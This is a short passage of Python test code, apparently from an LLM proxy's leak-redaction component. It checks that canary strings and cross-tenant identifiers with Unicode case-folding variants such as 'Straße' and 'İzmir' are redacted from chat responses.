    cases = [(stage(), f"see İ{_FOLDING_CASES[0][0]} ok", _FOLDING_CASES[0][1]),
             (stage(canaries=["zebra-straße-7731"], actions={"canary": "redact"}), "code Zebra-Straße-7731.", "Straße"),
             (make_stage(LeakStage, {"type": "leak", "actions": {"cross_tenant": "redact"}}, _FOLDING_POLICY),
              "Account İzmir-Hesap-55 is overdue.", "İzmir")]
    for leak, text, forbidden in cases:
        chain = Chain([leak])
        ex = make_exchange(leak.policy, {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hi"}]}, tenant="acme")
        assert await chain.run_request(ex) is None
        ex.response_status = 200
        out = await chain.run_event(ex, Event(kind="body", data=orjson.dumps(chat_body(text)).decode())) + await chain.run_end(ex)
        got = out[0].payload["choices"][0]["message"]["content"]
        assert forbidden not in got and "[REDACTED:" in got, (text, got)
